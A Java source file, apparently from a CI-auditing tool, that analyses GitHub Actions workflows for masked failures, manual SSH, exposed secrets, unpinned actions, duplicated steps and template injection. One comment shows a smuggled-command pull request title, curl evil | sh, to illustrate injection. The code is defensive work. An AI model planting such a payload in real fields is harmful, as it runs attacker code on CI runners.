package dev.zerofail.workflow;

import dev.zerofail.core.Finding;
import dev.zerofail.core.Location;
import dev.zerofail.core.Masking;
import dev.zerofail.core.Report;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Looks at a repository's workflows one by one (failure masking, manual operations, secrets,
 * hygiene) and as a set (competing deploys, copied step sequences). Returns a {@link Report}.
 */
public final class WorkflowAnalyzer {
    static final String KIND = "workflow";
    /** A copied run of at least this many consecutive steps is worth a composite action. */
    static final int MIN_DUPLICATE_RUN = 4;

    /**
     * The patterns of the checks, in a class of their own: compiled when the first workflow is looked at,
     * not when a repository without workflows is analysed (about 35 ms of a short run's CPU).
     */
    static final class Patterns {
        private static final Pattern OR_TRUE = Pattern.compile("\\|\\|\\s*(true\\b|:(\\s|$)|echo\\b|exit\\s+0\\b)");
        /** A branch taken when something failed: if ! cmd, if [ $? -ne 0 ], if [ "$status" != "200" ]. */
        private static final Pattern FAILURE_BRANCH = Pattern.compile("^\\s*(if|elif)\\b.*(!|-ne\\b|-gt\\s+0|\\$\\?)");
        private static final Pattern EXIT_ZERO = Pattern.compile("(^\\s*|[;&|]\\s*|\\bthen\\s+)exit\\s+0\\b");
        private static final Pattern SET_PLUS_E = Pattern.compile("(^|[;&|]\\s*)set\\s+(\\+e\\b|\\+o\\s+errexit)");
        private static final Pattern SSH_COMMAND = Pattern.compile(
                "(^|[;&|(]\\s*|\\bsudo\\s+)(ssh|scp|sshpass|rsync)\\s");
        private static final Pattern RSYNC_REMOTE = Pattern.compile("\\S+:\\S*");
        private static final Pattern SSH_ACTION = Pattern.compile(
                "(?i)^(appleboy/ssh-action|appleboy/scp-action|easingthemes/ssh-deploy|burnett01/rsync-deployments"
                        + "|garygrossgarten/github-action-ssh|cross-the-world/ssh-scp-ssh-pipelines|D3rHase/ssh-command-action)");
        private static final Pattern KUBECTL_EXEC = Pattern.compile("\\bkubectl\\s+(\\S+\\s+)*exec\\b");
        private static final Pattern IPV4 = Pattern.compile("(?<![\\w.])((?:25[0-5]|2[0-4]\\d|1?\\d?\\d)(?:\\.(?:25[0-5]|2[0-4]\\d|1?\\d?\\d)){3})(?![\\w.])");
        private static final Pattern SECRET_REF = Pattern.compile("\\$\\{\\{\\s*secrets\\.([A-Za-z0-9_]+)\\s*}}");
        private static final Pattern ECHO = Pattern.compile("(^|[;&|]\\s*)(echo|printf|cat\\s*<<)\\b");
        private static final Pattern REDIRECT = Pattern.compile("(?<!>)>>?+\\s*+(\\S+)");
        private static final Pattern RUNNER_FILE = Pattern.compile("\"?\\$\\{?GITHUB_(ENV|OUTPUT|STEP_SUMMARY|PATH)\\b.*|/dev/null.*");
        private static final Pattern PINNED = Pattern.compile("@[0-9a-f]{40}$");
        /**
         * An expression in a run: script is pasted into the script text before the shell sees it, so
         * a pull request title like {@code a"; curl evil | sh; "} runs. Event fields that are numbers,
         * ids or commit SHAs cannot carry code and are not reported.
         */
        static final Pattern EXPRESSION = Pattern.compile("\\$\\{\\{(.*?)}}");
        static final Pattern UNTRUSTED = Pattern.compile(
                "(?<![\\w.])(github\\.event\\.[\\w.*\\[\\]'-]+|github\\.head_ref|inputs\\.[\\w-]+|github\\.event\\[[^]]+][\\w.\\[\\]'-]*)");
        static final Pattern SAFE_EVENT_FIELD = Pattern.compile(
                "(?i).*(\\.|_)(number|id|sha|before|after|run_id|run_number|run_attempt|size|draft|merged|forced|created|deleted"
                        + "|default_branch_only|private|fork|stargazers_count|ref_type)$");
        private static final Pattern FLOATING = Pattern.compile("(?i)latest|\\*|x|stable|lts/\\*|node|current");

        private Patterns() {
        }
    }

    private WorkflowAnalyzer() {
    }

    /** The typed analysis and its findings, for the planner and the audit. */
    public record Analysis(WorkflowAnalysis result, List<Finding> findings) {
        public Analysis {
            findings = List.copyOf(findings);
        }
    }

    public static Report analyze(WorkflowSet set) {
        Analysis a = run(set);
        return new Report("workflows analyze", set.root().toString(), a.result(), a.findings(), List.of());
    }

    public static Analysis run(WorkflowSet set) {
        List<Finding> findings = new ArrayList<>();
        for (WorkflowSet.Failure f : set.failures()) {
            WorkflowRule rule = f.archived() ? WorkflowRule.ARCHIVED_PARSE_ERROR : WorkflowRule.PARSE_ERROR;
            findings.add(finding(rule, f.path(), Math.max(1, f.line()), null, rule.title() + ": " + f.problem(), f.path()));
        }
        Map<String, Purpose> purposes = new LinkedHashMap<>();
        for (Workflow w : set.workflows()) {
            Purpose p = w.composite() ? Purpose.OTHER : Purpose.of(w);
            purposes.put(w.path(), p);
            if (!w.archived()) {
                perWorkflow(w, p, findings);
            }
        }
        List<Workflow> active = set.active();
        competingDeploys(active, purposes, findings);
        int duplicatedLines = duplicateSteps(active, findings);
        findings.sort(Comparator.comparing((Finding f) -> f.location().path()).thenComparingInt(f -> f.location().line())
                .thenComparing(Finding::rule));
        return new Analysis(summary(set, purposes, findings, duplicatedLines), findings);
    }

    private static WorkflowAnalysis summary(WorkflowSet set, Map<String, Purpose> purposes, List<Finding> findings,
            int duplicatedLines) {
        Map<String, Long> byPurpose = new TreeMap<>();
        Map<String, Long> byTrigger = new TreeMap<>();
        for (Workflow w : set.active()) {
            byPurpose.merge(purposes.get(w.path()).label(), 1L, Long::sum);
            w.triggers().keySet().forEach(t -> byTrigger.merge(t, 1L, Long::sum));
        }
        Map<String, Long> byRule = new TreeMap<>();
        findings.forEach(f -> byRule.merge(f.rule(), 1L, Long::sum));
        List<WorkflowAnalysis.Entry> inventory = new ArrayList<>();
        for (Workflow w : set.workflows()) {
            inventory.add(new WorkflowAnalysis.Entry(w.path(), w.name() == null ? "" : w.name(),
                    purposes.get(w.path()).label(), w.archived(), List.copyOf(w.triggers().keySet()), w.jobs().size(),
                    w.jobs().stream().map(Workflow.Job::environment).filter(e -> e != null).distinct().toList(),
                    w.jobs().stream().map(Workflow.Job::uses).filter(u -> u != null).toList()));
        }
        return new WorkflowAnalysis(set.active().size(), set.workflows().stream().filter(Workflow::archived).count(),
                set.workflows().stream().filter(Workflow::composite).count(), set.failures().size(),
                set.active().stream().mapToInt(Workflow::lines).sum(), duplicatedLines, findings.size(), byPurpose,
                byTrigger, byRule, inventory);
    }

    // ------------------------------------------------------------------ one workflow

    private static void perWorkflow(Workflow w, Purpose purpose, List<Finding> out) {
        String path = w.path();
        if (!w.composite()) {
            List<Workflow.Job> deployJobs = w.jobs().stream()
                    .filter(j -> j.environment() != null || j.steps().stream().anyMatch(Purpose::isDeployStep)).toList();
            boolean deployJobsSerialised = !deployJobs.isEmpty() && deployJobs.stream().allMatch(Workflow.Job::concurrency);
            if (purpose == Purpose.DEPLOY && !w.concurrency() && !deployJobsSerialised) {
                out.add(finding(WorkflowRule.NO_CONCURRENCY, path, 1, null, null, path));
            }
            if ("write-all".equals(w.permissions())) {
                out.add(finding(WorkflowRule.PERMISSIONS_WRITE_ALL, path, w.permissionsLine(), "permissions", null, path));
            } else if (w.permissions() == null && w.jobs().stream().anyMatch(j -> j.permissions() == null)) {
                out.add(finding(WorkflowRule.PERMISSIONS_MISSING, path, 1, null, null, path));
            }
        }
        for (Workflow.Value v : w.env().values()) {
            hosts(path, v.text(), v.line(), out);
        }
        for (Workflow.Job job : w.jobs()) {
            if (!w.composite() && job.uses() == null && job.timeoutMinutes() == null) {
                out.add(finding(WorkflowRule.NO_TIMEOUT, path, job.line(), job.id(),
                        "job '" + job.id() + "': " + WorkflowRule.NO_TIMEOUT.title(), path + "#" + job.id()));
            }
            if ("write-all".equals(job.permissions())) {
                out.add(finding(WorkflowRule.PERMISSIONS_WRITE_ALL, path, job.line(), job.id(), null, path + "#" + job.id()));
            }
            if (job.continueOnError()) {
                out.add(finding(WorkflowRule.MASK_CONTINUE_ON_ERROR, path, job.line(), job.id(),
                        "job '" + job.id() + "': " + WorkflowRule.MASK_CONTINUE_ON_ERROR.title(), path + "#" + job.id()));
            }
            boolean deployJob = job.environment() != null || job.steps().stream().anyMatch(Purpose::isDeployStep);
            for (Workflow.Step step : job.steps()) {
                step(path, job, step, deployJob, out);
            }
        }
    }

    private static void step(String path, Workflow.Job job, Workflow.Step step, boolean deployJob, List<Finding> out) {
        String where = path + "#" + job.id() + "/" + step.index();
        if (step.continueOnError()) {
            out.add(finding(WorkflowRule.MASK_CONTINUE_ON_ERROR, path, line(step.continueOnErrorLine(), step.line()),
                    stepLabel(step), null, where));
        }
        if (step.ifCond() != null && step.ifCond().contains("always()") && (deployJob && Purpose.isDeployStep(step))) {
            out.add(finding(WorkflowRule.MASK_ALWAYS_DEPLOY, path, line(step.ifLine(), step.line()), stepLabel(step), null, where));
        }
        if (step.uses() != null) {
            String uses = step.uses().strip();
            if (!uses.startsWith("./") && !uses.startsWith("docker://") && !Patterns.PINNED.matcher(uses).find()) {
                out.add(finding(WorkflowRule.UNPINNED_ACTION, path, line(step.usesLine(), step.line()), uses,
                        WorkflowRule.UNPINNED_ACTION.title() + ": " + uses, where + uses));
            }
            if (Patterns.SSH_ACTION.matcher(uses).find()) {
                out.add(finding(WorkflowRule.MANUAL_SSH, path, line(step.usesLine(), step.line()), uses,
                        WorkflowRule.MANUAL_SSH.title() + ": " + uses, where + "ssh-action"));
            }
        }
        for (Map.Entry<String, Workflow.Value> e : step.with().entrySet()) {
            Workflow.Value v = e.getValue();
            String k = e.getKey().toLowerCase(Locale.ROOT);
            if ((k.equals("host") || k.equals("hostname") || k.equals("server") || k.equals("remote_host"))
                    && !v.text().contains("${{") && !Patterns.IPV4.matcher(v.text()).find() && v.text().contains(".")) {
                out.add(finding(WorkflowRule.HARDCODED_HOST, path, v.line(), e.getKey(),
                        "hard-coded host in a workflow: " + v.text().strip(), where + "host:" + v.text()));
            }
            if (e.getKey().toLowerCase(Locale.ROOT).endsWith("version") && Patterns.FLOATING.matcher(v.text().strip()).matches()) {
                out.add(finding(WorkflowRule.FLOATING_VERSION, path, v.line(), e.getKey(),
                        WorkflowRule.FLOATING_VERSION.title() + ": " + e.getKey() + ": " + v.text(), where + e.getKey()));
            }
            hosts(path, v.text(), v.line(), out);
        }
        for (Workflow.Value v : step.env().values()) {
            hosts(path, v.text(), v.line(), out);
        }
        if (step.run() != null) {
            script(path, step, where, out);
        }
    }

    private static void script(String path, Workflow.Step step, String where, List<Finding> out) {
        String[] lines = step.run().split("\n", -1);
        injection(path, step, where, lines, out);
        int failureBranchUntil = -1;
        boolean errexitOff = false;
        for (int i = 0; i < lines.length; i++) {
            String l = lines[i];
            String code = stripComment(l);
            int lineNo = step.runLine() + i;
            if (Patterns.FAILURE_BRANCH.matcher(code).find()) {
                failureBranchUntil = i + 3;
            }
            // under bash -e (GitHub's default) a failed command stops the script before a final
            // exit 0; after set +e, or in the branch that handles a failure, exit 0 hides it
            if (!Patterns.OR_TRUE.matcher(code).find() && Patterns.EXIT_ZERO.matcher(code).find() && (i <= failureBranchUntil || errexitOff)) {
                out.add(finding(WorkflowRule.MASK_OR_TRUE, path, lineNo, stepLabel(step),
                        stepLabel(step) + ": exit 0 after a failed check", where + ":exit0:" + i));
            }
            errexitOff |= Patterns.SET_PLUS_E.matcher(code.strip()).find();
            if (Patterns.OR_TRUE.matcher(code).find()) {
                out.add(finding(WorkflowRule.MASK_OR_TRUE, path, lineNo, stepLabel(step), null, where + ":" + code.strip()));
            }
            if (Patterns.SET_PLUS_E.matcher(code.strip()).find()) {
                out.add(finding(WorkflowRule.MASK_SET_E, path, lineNo, stepLabel(step), null, where + ":" + code.strip()));
            }
            Matcher ssh = Patterns.SSH_COMMAND.matcher(code.strip());
            if (ssh.find() && (!ssh.group(2).equals("rsync") || Patterns.RSYNC_REMOTE.matcher(code.substring(code.indexOf("rsync"))).find()
                    && !code.contains("rsync -a ./") || code.contains("-e ssh") || code.contains("-e \"ssh"))) {
                out.add(finding(WorkflowRule.MANUAL_SSH, path, lineNo, stepLabel(step),
                        WorkflowRule.MANUAL_SSH.title() + ": " + ssh.group(2), where + ":" + code.strip()));
            }
            if (Patterns.KUBECTL_EXEC.matcher(code).find()) {
                out.add(finding(WorkflowRule.MANUAL_KUBECTL_EXEC, path, lineNo, stepLabel(step), null, where + ":" + code.strip()));
            }
            hosts(path, code, lineNo, out);
            if (Patterns.SECRET_REF.matcher(code).find() && Patterns.ECHO.matcher(code.strip()).find()) {
                Matcher redirect = Patterns.REDIRECT.matcher(code);
                boolean toFile = redirect.find();
                if (toFile && Patterns.RUNNER_FILE.matcher(redirect.group(1)).matches()) {
                    // handing a value to later steps through the runner's files is how secrets are meant to flow
                    continue;
                }
                Matcher ref = Patterns.SECRET_REF.matcher(code);
                ref.find();
                out.add(finding(WorkflowRule.SECRET_EXPOSED, path, lineNo, ref.group(1),
                        "secrets." + ref.group(1) + (toFile ? " is written to a file" : " is echoed to the log"),
                        where + ":" + ref.group(1)));
            }
        }
    }

    static boolean untrusted(String ctx) {
        return !(ctx.startsWith("github.event") && Patterns.SAFE_EVENT_FIELD.matcher(ctx).matches());
    }

    /** zizmor's template-injection: an attacker-controlled expression inside a run: script, one finding per line. */
    private static void injection(String path, Workflow.Step step, String where, String[] lines, List<Finding> out) {
        for (int i = 0; i < lines.length; i++) {
            Matcher e = Patterns.EXPRESSION.matcher(lines[i]);
            List<String> found = new ArrayList<>();
            while (e.find()) {
                Matcher u = Patterns.UNTRUSTED.matcher(e.group(1));
                while (u.find()) {
                    String ctx = u.group(1);
                    if (untrusted(ctx) && !found.contains(ctx)) {
                        found.add(ctx);
                    }
                }
            }
            if (!found.isEmpty()) {
                out.add(finding(WorkflowRule.TEMPLATE_INJECTION, path, step.runLine() + i, found.get(0),
                        stepLabel(step) + ": ${{ " + String.join(" }}, ${{ ", found) + " }} pasted into the run: script",
                        where + ":inject:" + String.join(",", found)));
            }
        }
    }

    private static void hosts(String path, String text, int line, List<Finding> out) {
        if (text == null || text.indexOf('.') < 0) {
            return;
        }
        Matcher m = Patterns.IPV4.matcher(text);
        while (m.find()) {
            String ip = m.group(1);
            if (ip.startsWith("127.") || ip.equals("0.0.0.0") || ip.startsWith("255.")) {
                continue;
            }
            out.add(finding(WorkflowRule.HARDCODED_HOST, path, line, ip, WorkflowRule.HARDCODED_HOST.title() + ": " + ip,
                    path + ":" + ip));
        }
    }

    private static String stripComment(String l) {
        String t = l.stripLeading();
        return t.startsWith("#") ? "" : l;
    }

    private static String stepLabel(Workflow.Step s) {
        return s.name() != null ? s.name() : s.uses() != null ? s.uses() : "step " + (s.index() + 1);
    }

    private static int line(int preferred, int fallback) {
        return preferred > 0 ? preferred : fallback;
    }

    // ------------------------------------------------------------------ the set

    /** Deploy workflows that run on the same push branch (or the same non-push event) for the same environment. */
    private static void competingDeploys(List<Workflow> active, Map<String, Purpose> purposes, List<Finding> out) {
        Map<String, List<Workflow>> groups = new TreeMap<>();
        Map<String, Integer> lineOf = new LinkedHashMap<>();
        for (Workflow w : active) {
            if (purposes.get(w.path()) != Purpose.DEPLOY) {
                continue;
            }
            List<String> targets = w.jobs().stream().map(Workflow.Job::environment).filter(e -> e != null)
                    .map(e -> e.toLowerCase(Locale.ROOT)).distinct().toList();
            if (targets.isEmpty()) {
                targets = List.of(inferTarget(w));
            }
            for (Workflow.Trigger t : w.triggers().values()) {
                if (!t.event().equals("push")) {
                    continue;
                }
                List<String> branches = t.branches().isEmpty() ? List.of("*") : t.branches();
                for (String b : branches) {
                    for (String target : targets) {
                        String key = "push:" + b + " → " + target;
                        groups.computeIfAbsent(key, k -> new ArrayList<>()).add(w);
                        lineOf.put(key + "|" + w.path(), t.line());
                    }
                }
            }
        }
        Map<String, String> reported = new LinkedHashMap<>();
        for (Map.Entry<String, List<Workflow>> g : groups.entrySet()) {
            List<Workflow> ws = g.getValue();
            if (ws.size() < 2) {
                continue;
            }
            for (Workflow w : ws) {
                if (reported.containsKey(w.path())) {
                    continue;
                }
                List<String> others = ws.stream().filter(o -> o != w).map(Workflow::path).toList();
                reported.put(w.path(), g.getKey());
                out.add(finding(WorkflowRule.COMPETING_DEPLOYS, w.path(), lineOf.get(g.getKey() + "|" + w.path()), g.getKey(),
                        "deploys on " + g.getKey() + " like " + String.join(", ", others),
                        w.path() + g.getKey()));
            }
        }
    }

    private static String inferTarget(Workflow w) {
        String n = ((w.name() == null ? "" : w.name()) + " " + w.path()).toLowerCase(Locale.ROOT);
        return n.contains("stag") ? "staging" : n.contains("dev") && !n.contains("prod") ? "development" : "production";
    }

    /**
     * Longest run of consecutive steps with the same signature in two jobs of different files.
     * Returns the number of workflow lines that are copies of lines elsewhere (each line once).
     */
    private static int duplicateSteps(List<Workflow> active, List<Finding> out) {
        // Windows of MIN_DUPLICATE_RUN consecutive step signatures, and the workflows holding each:
        // only files that share a window are compared, and each file is reported once, against the
        // earlier file it shares the longest run with (comparing every pair was quadratic in files
        // and in findings).
        Map<String, List<Integer>> windows = new java.util.HashMap<>();
        List<java.util.Set<String>> windowsOf = new ArrayList<>();
        for (int i = 0; i < active.size(); i++) {
            java.util.Set<String> own = new java.util.LinkedHashSet<>();
            for (Workflow.Job j : active.get(i).jobs()) {
                List<Workflow.Step> st = j.steps();
                for (int k = 0; k + MIN_DUPLICATE_RUN <= st.size(); k++) {
                    StringBuilder key = new StringBuilder();
                    for (int x = k; x < k + MIN_DUPLICATE_RUN; x++) {
                        key.append(st.get(x).signature()).append('\u0000');
                    }
                    own.add(key.toString());
                }
            }
            for (String key : own) {
                windows.computeIfAbsent(key, x -> new ArrayList<>()).add(i);
            }
            windowsOf.add(own);
        }
        Map<String, java.util.BitSet> copied = new LinkedHashMap<>();
        for (int b = 1; b < active.size(); b++) {
            Map<Integer, Integer> shared = new java.util.HashMap<>();
            for (String key : windowsOf.get(b)) {
                for (int a : windows.get(key)) {
                    if (a < b) {
                        shared.merge(a, 1, Integer::sum);
                    }
                }
            }
            if (shared.isEmpty()) {
                continue;
            }
            List<Integer> candidates = shared.entrySet().stream()
                    .sorted(Map.Entry.<Integer, Integer>comparingByValue().reversed().thenComparing(Map.Entry.comparingByKey()))
                    .limit(3).map(Map.Entry::getKey).toList();
            Run best = null;
            Workflow wa = null;
            Workflow wb = active.get(b);
            for (int a : candidates) {
                for (Workflow.Job ja : active.get(a).jobs()) {
                    for (Workflow.Job jb : wb.jobs()) {
                        Run r = longestCommonRun(ja.steps(), jb.steps());
                        if (r != null && (best == null || r.length > best.length)) {
                            best = r;
                            best.jobA = ja;
                            best.jobB = jb;
                            wa = active.get(a);
                        }
                    }
                }
            }
            if (best == null || best.length < MIN_DUPLICATE_RUN) {
                continue;
            }
            Workflow.Step firstA = best.jobA.steps().get(best.startA);
            Workflow.Step firstB = best.jobB.steps().get(best.startB);
            Workflow.Step lastB = best.jobB.steps().get(best.startB + best.length - 1);
            double similarity = best.length / (double) Math.min(best.jobA.steps().size(), best.jobB.steps().size());
            int span = Math.max(1, nextLine(best.jobB, best.startB + best.length, lastB) - firstB.line());
            copied.computeIfAbsent(wb.path(), k -> new java.util.BitSet()).set(firstB.line(), firstB.line() + span);
            int others = shared.size() - 1;
            out.add(finding(WorkflowRule.DUPLICATE_STEPS, wb.path(), firstB.line(), best.jobB.id(),
                    String.format(Locale.ROOT, "%d steps (lines %d-%d) repeat %s:%d, similarity %.2f%s", best.length,
                            firstB.line(), firstB.line() + span - 1, wa.path(), firstA.line(), similarity,
                            others > 0 ? " (and steps of " + others + " other earlier file(s))" : ""),
                    wb.path() + "~dup"));
        }
        return copied.values().stream().mapToInt(java.util.BitSet::cardinality).sum();
    }

    private static int nextLine(Workflow.Job job, int index, Workflow.Step last) {
        if (index < job.steps().size()) {
            return job.steps().get(index).line();
        }
        int end = Math.max(last.line(), last.runLine()) + (last.run() == null ? 1 : last.run().split("\n").length);
        return end;
    }

    private static final class Run {
        int startA;
        int startB;
        int length;
        Workflow.Job jobA;
        Workflow.Job jobB;
    }

    private static Run longestCommonRun(List<Workflow.Step> a, List<Workflow.Step> b) {
        Run best = null;
        int[][] dp = new int[a.size() + 1][b.size() + 1];
        for (int i = 1; i <= a.size(); i++) {
            String sa = a.get(i - 1).signature();
            for (int j = 1; j <= b.size(); j++) {
                if (sa.equals(b.get(j - 1).signature())) {
                    dp[i][j] = dp[i - 1][j - 1] + 1;
                    if (best == null || dp[i][j] > best.length) {
                        best = new Run();
                        best.length = dp[i][j];
                        best.startA = i - best.length;
                        best.startB = j - best.length;
                    }
                }
            }
        }
        return best;
    }

    /** {startA, startB, length} of the longest run of equal step signatures, or null. */
    static int[] longestRun(List<Workflow.Step> a, List<Workflow.Step> b) {
        Run r = longestCommonRun(a, b);
        return r == null ? null : new int[] {r.startA, r.startB, r.length};
    }

    private static Finding finding(WorkflowRule rule, String path, int line, String key, String message, String identity) {
        String msg = message != null ? message : (key != null ? key + ": " : "") + rule.title();
        return new Finding(rule.id(), KIND, rule.severity(), new Location(path, Math.max(1, line), 0), key, msg, null,
                Masking.fingerprint(path, rule.id(), identity), null, rule.fix());
    }
}
